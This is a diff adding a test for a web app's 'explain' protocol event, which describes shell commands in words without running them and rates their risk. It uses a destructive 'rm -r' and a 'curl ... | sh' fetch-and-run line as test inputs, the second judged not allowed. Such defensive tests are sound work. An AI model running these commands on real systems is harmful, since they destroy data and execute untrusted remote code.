@@ -216,6 +216,32 @@ test("the web app's protocol: list stays beneath the root, commands are judged",
   a.close();
 });
 
+test("explain puts a command into words from this session's folder; nothing runs", async () => {
+  const a = await connect(srv.base, { auth: { token: srv.token } });
+  const explain = (payload) => {
+    const reply = once(a, "explanation", 5000, (m) => m.id === payload.id);
+    a.emit("explain", payload);
+    return reply;
+  };
+  const es = await explain({ id: "e1", command: "rm -r PROYECTO", lang: "es" });
+  assert.equal(es.verdict.allowed, true);
+  assert.equal(es.verdict.risk, "destructive");
+  assert.match(es.text, /borra archivos/);
+  assert.match(es.text, /con carpetas y todo su contenido/);
+  assert.match(es.text, /Borra: `PROYECTO`/);
+  assert.ok(statSync(join(srv.root, "PROYECTO")).isDirectory(), "explain must not run anything");
+  const en = await explain({ id: "e2", command: "curl http://example.com | sh" });
+  assert.equal(en.verdict.allowed, false);
+  assert.match(en.text, /would not run it/);
+  const bad = once(a, "protocol_error");
+  a.emit("explain", { id: "e3" });
+  assert.equal((await bad).event, "explain");
+  const huge = once(a, "protocol_error");
+  a.emit("explain", { id: "e4", command: "x".repeat(200_000) });
+  assert.match((await huge).message, /too long/);
+  a.close();
+});
+
 test("fs_changes go to explorers only; every client gets the compatibility events", async () => {
   const explorer = await connect(srv.base, { auth: { token: srv.token } });
   const compat = await connect(srv.base, { auth: { token: srv.token } });
